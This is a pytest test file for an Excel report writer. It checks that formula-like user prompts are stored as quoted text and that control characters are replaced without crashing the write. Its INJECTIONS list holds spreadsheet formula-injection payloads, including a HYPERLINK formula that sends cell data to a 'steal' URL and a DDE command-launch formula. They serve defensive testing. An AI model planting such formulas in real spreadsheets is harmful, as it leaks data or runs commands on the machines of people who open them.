"""Text from users reaches the workbook as text: never a formula, and characters a workbook
cannot hold do not crash the final write."""

from __future__ import annotations

import copy
import zipfile

import openpyxl
import pytest
from test_report_outputs import plan  # noqa: F401  (the hand-written plan fixture)

from his_opt.hiqm import load_default_hiqm
from his_opt.report import write_excel_report
from his_opt.report._cells import cell_text

INJECTIONS = [
    '=HYPERLINK("http://example.com/steal?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+2",
    "-2+3",
    "@SUM(A1:A9)",
]


@pytest.fixture(scope="module")
def hiqm():
    return load_default_hiqm("sim_npi")


def _with_prompts(base: dict, prompts: list[str]) -> dict:
    doc = copy.deepcopy(base)
    for u, p in zip(doc["users"], prompts, strict=False):
        u["prompt"] = p
        u["negative_prompt"] = p
    doc["groups"][0]["public_prompt"] = prompts[0]
    return doc


def _cells_with(wb: openpyxl.Workbook, text: str) -> list:
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value == text]


@pytest.mark.parametrize("start", range(0, len(INJECTIONS), 3))
def test_formula_like_prompts_read_back_as_text(plan, hiqm, tmp_path, start):  # noqa: F811
    prompts = INJECTIONS[start:start + 3]
    doc = _with_prompts(plan, prompts)
    path = tmp_path / "r.xlsx"
    write_excel_report(path, doc, hiqm)
    wb = openpyxl.load_workbook(path)
    for text in prompts:
        cells = _cells_with(wb, text)
        assert cells, text  # read back equal to the input
        assert all(c.data_type == "s" for c in cells)
        # retyping keeps it text: the quote prefix survives the cell's named style
        assert all(c.quotePrefix for c in cells), text
    with zipfile.ZipFile(path) as z:  # no formula anywhere in the sheets
        for name in z.namelist():
            if name.startswith("xl/worksheets/sheet"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name


def test_control_characters_do_not_crash_the_write(plan, hiqm, tmp_path):  # noqa: F811
    bad = "a cat\x00 on a\x07 mat\x1b[31m"
    doc = _with_prompts(plan, [bad, "tab\tand\nnewline"])
    path = tmp_path / "r.xlsx"
    write_excel_report(path, doc, hiqm)
    wb = openpyxl.load_workbook(path)
    assert _cells_with(wb, "a cat\ufffd on a\ufffd mat\ufffd[31m")
    assert _cells_with(wb, "tab\tand\nnewline")  # tab and newline are fine in a cell


def test_cell_text_limits():
    assert cell_text("x" * 40_000) == "x" * 32_766 + "\u2026"
    assert cell_text("\x00\x0b\x0c\x1f") == "\ufffd" * 4
